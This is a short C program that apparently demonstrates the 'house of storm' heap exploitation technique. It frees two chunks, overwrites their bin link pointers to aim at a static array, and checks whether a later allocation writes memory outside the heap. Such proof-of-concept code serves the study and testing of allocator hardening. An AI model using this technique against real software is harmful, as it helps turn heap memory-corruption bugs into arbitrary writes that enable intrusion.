/*
 * house_of_storm: two chunks in bins, four links: one write makes a size where
 * the other will find a chunk.
 */
#include "technique.h"

static _Alignas(16) uint64_t target[64];

int main(void)
{
    void *a = malloc(3 * CHUNKED);
    malloc(CHUNKED);
    void *b = malloc(3 * CHUNKED + 16);
    malloc(CHUNKED);
    free_for_good(a);
    free_for_good(b);
    *word_of(a, NEXT) = (uintptr_t)target;
    *word_of(a, PREVIOUS) = (uintptr_t)target + 3;
    *word_of(b, NEXT) = (uintptr_t)target + 8;
    *word_of(b, PREVIOUS) = (uintptr_t)target + 11;
    grab(3 * CHUNKED, target, sizeof target);
    for (int i = 0; i < 64; i++) {
        if (target[i] != 0) {
            succeeds("memory outside of the heap has changed");
        }
    }
    fails();
}
